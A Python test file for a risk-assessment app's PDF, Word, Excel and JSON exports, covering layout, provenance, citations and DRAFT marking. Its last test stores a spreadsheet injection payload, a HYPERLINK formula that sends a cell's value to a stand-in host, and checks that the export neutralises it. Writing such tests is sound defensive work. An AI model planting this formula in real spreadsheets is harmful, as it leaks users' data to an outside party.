"""Each export opened with its own library: the cover, the decision record (a condition), each
area's answers with their provenance, a citation's passage, the comments and documents; and
DRAFT on every page of an assessment that is not decided yet."""

from __future__ import annotations

import io
import json
from typing import Any

import jsonschema
import pytest
from docx import Document
from openpyxl import load_workbook
from pypdf import PdfReader

from assessments.exports.json_export import SCHEMA, SCHEMA_VERSION
from tests.exports.helpers import (
    ACCEPTED_VALUE,
    COMMENT_TEXT,
    CONDITION_TEXT,
    PASSAGE,
    RATIONALE,
    exported,
    finalized_with_evidence,
    stored_bytes,
    under_review_with_evidence,
)
from tests.review.helpers import collection


@pytest.fixture
def finalized(cast: Any) -> str:
    return finalized_with_evidence(cast)


def _cover(assessment_id: str) -> list[str]:
    a = collection(assessment_id).assessment
    return [a.id, a.title, a.project, a.business_unit, a.data_classification, a.owner_name]


def test_the_json_export_validates_against_its_documented_schema_and_says_everything(
    cast: Any, finalized: str
) -> None:
    record = exported(cast, finalized, "json")
    data = json.loads(stored_bytes(record))

    jsonschema.validate(data, SCHEMA)
    assert data["schema"] == SCHEMA_VERSION == "tra-export/1"
    assert data["draft"] is False and data["assessment"]["state"] == "finalized"
    assert data["assessment"]["id"] == finalized
    assert data["decisions_final"] is True
    conditions = [c["text"] for d in data["decisions"] for c in d["conditions"]]
    assert conditions == [CONDITION_TEXT]
    assert {d["rationale"] for d in data["decisions"]} == {RATIONALE}
    answers = {a["question_id"]: a for area in data["areas"] for a in area["answers"]}
    assert answers["TP-01"]["answer"] == ACCEPTED_VALUE
    assert answers["TP-01"]["provenance"] == "suggestion_accepted"
    assert answers["TP-01"]["citations"][0] == {
        "document": "vendor-contract.pdf",
        "page": 3,
        "section": "2. Parties",
        "passage": PASSAGE,
    }
    assert [c["text"] for c in answers["TP-01"]["comments"]] == [COMMENT_TEXT]
    assert answers["Q-01"]["provenance"] == "manual"
    # Every area the assessment covers has its own section (the qualifying questions first).
    assert [a["key"] for a in data["areas"]][0] == "qualifying" and len(data["areas"]) >= 3


def test_the_xlsx_export_has_a_summary_and_a_filtered_sheet_per_area(cast: Any, finalized: str) -> None:
    book = load_workbook(io.BytesIO(stored_bytes(exported(cast, finalized, "xlsx"))))

    summary = book["Summary"]
    values = [str(cell.value) for row in summary.iter_rows() for cell in row if cell.value is not None]
    for field in _cover(finalized):
        assert field in values
    assert CONDITION_TEXT in " ".join(values)
    assert "DRAFT" not in values
    area_sheets = [book[name] for name in book.sheetnames[1:]]
    assert [s.title for s in area_sheets][:2] == ["Qualifying questions", "Third Party Risk"]
    third_party = book["Third Party Risk"]
    assert [c.value for c in third_party[1]] == [
        "ID",
        "Question",
        "Answer",
        "Provenance",
        "Citation",
        "Comments",
    ]
    rows = {row[0].value: [c.value for c in row] for row in third_party.iter_rows(min_row=2)}
    assert rows["TP-01"][2:4] == [ACCEPTED_VALUE, "Accepted suggestion"]
    assert PASSAGE in rows["TP-01"][4] and "vendor-contract.pdf, page 3" in rows["TP-01"][4]
    assert rows["TP-01"][5] == 1
    assert rows["TP-02"][3] == "Manual"
    for sheet in area_sheets:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref.startswith("A1:F")
        assert sheet.column_dimensions["B"].width == 60 and sheet.column_dimensions["E"].width == 70


def _docx_text(document: Any) -> str:
    parts = [p.text for p in document.paragraphs]
    parts += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join(parts)


def test_the_docx_export_has_headings_tables_and_page_numbers_in_its_footer(
    cast: Any, finalized: str
) -> None:
    document = Document(io.BytesIO(stored_bytes(exported(cast, finalized, "docx"))))
    text = _docx_text(document)

    for field in _cover(finalized):
        assert field in text
    headings = [p.text for p in document.paragraphs if p.style.name.startswith(("Heading", "Title"))]
    assert "Decision record" in headings and "Documents" in headings
    assert any(h.startswith("Third Party Risk") for h in headings)
    assert "TP-01 · What is the vendor's legal name" in "\n".join(headings)
    assert CONDITION_TEXT in text and RATIONALE in text
    assert "[Accepted suggestion]" in text and "[Manual]" in text
    assert PASSAGE in text and "vendor-contract.pdf, page 3, 2. Parties" in text
    assert COMMENT_TEXT in text
    footer_xml = document.sections[0].footer.paragraphs[0]._p.xml
    assert "PAGE" in footer_xml and "NUMPAGES" in footer_xml
    assert finalized in document.sections[0].header.paragraphs[0].text
    assert "DRAFT" not in document.sections[0].header.paragraphs[0].text


def test_the_pdf_export_says_it_all_with_page_x_of_y_on_every_page(cast: Any, finalized: str) -> None:
    reader = PdfReader(io.BytesIO(stored_bytes(exported(cast, finalized, "pdf"))))
    pages = [page.extract_text() for page in reader.pages]
    text = "\n".join(pages)

    assert len(pages) >= 3
    for n, page in enumerate(pages, start=1):
        assert f"Page {n} of {len(pages)}" in page and finalized in page and "Exported " in page
        assert "DRAFT" not in page
    for field in _cover(finalized):
        assert field in pages[0]
    assert "Decision record" in text and CONDITION_TEXT in text and RATIONALE in text
    assert "Third Party Risk" in text and "Accepted suggestion" in text and "[Manual]" in text
    assert PASSAGE in " ".join(text.split()) and "vendor-contract.pdf, page 3" in text
    assert COMMENT_TEXT in text


def test_an_export_of_an_undecided_assessment_says_draft_on_every_page_in_every_format(cast: Any) -> None:
    assessment_id = under_review_with_evidence(cast)

    pdf = PdfReader(io.BytesIO(stored_bytes(exported(cast, assessment_id, "pdf"))))
    assert all("DRAFT" in page.extract_text() for page in pdf.pages)
    docx = Document(io.BytesIO(stored_bytes(exported(cast, assessment_id, "docx"))))
    assert docx.sections[0].header.paragraphs[0].text.startswith("DRAFT")
    assert docx.paragraphs[0].text.startswith("DRAFT")
    book = load_workbook(io.BytesIO(stored_bytes(exported(cast, assessment_id, "xlsx"))))
    assert book["Summary"]["A2"].value == "DRAFT"
    assert all(s.oddHeader.center.text.startswith("DRAFT") for s in book.worksheets)
    record = exported(cast, assessment_id, "json")
    data = json.loads(stored_bytes(record))
    jsonschema.validate(data, SCHEMA)
    assert data["draft"] is True and data["decisions_final"] is False
    assert record.draft


def test_a_users_text_never_becomes_a_formula_and_control_characters_do_not_break_a_file(cast: Any) -> None:
    from assessments.domain.records import AnswerRecord
    from assessments.exports.record import ExportStatus
    from integrations.runtime import run_sync
    from integrations.table import get_table
    from tests.web.helpers import answer, create_assessment

    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    assessment_id = create_assessment(cast, title="=1+1 Vendor portal")
    answer(cast, assessment_id, "Q-01", formula)
    # A control character the form would not let through, in an answer stored before it did.
    pasted = AnswerRecord(
        "Q-02", "Acme\x0b Ltd.\x01", "manual", "requestor", "2026-03-01T00:00:00.000000Z", 1
    )
    run_sync(get_table().put, pasted.to_item(assessment_id))

    records = {f: exported(cast, assessment_id, f) for f in ("pdf", "docx", "xlsx", "json")}

    assert {r.status for r in records.values()} == {ExportStatus.READY}, {
        f: r.error for f, r in records.items()
    }
    book = load_workbook(io.BytesIO(stored_bytes(records["xlsx"])))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert formula in [c.value for c in cells]
    assert "=1+1 Vendor portal" in [c.value for c in cells]
    assert "Acme Ltd." in _docx_text(Document(io.BytesIO(stored_bytes(records["docx"]))))
    pdf = PdfReader(io.BytesIO(stored_bytes(records["pdf"])))
    assert "Acme Ltd." in "\n".join(page.extract_text() for page in pdf.pages)
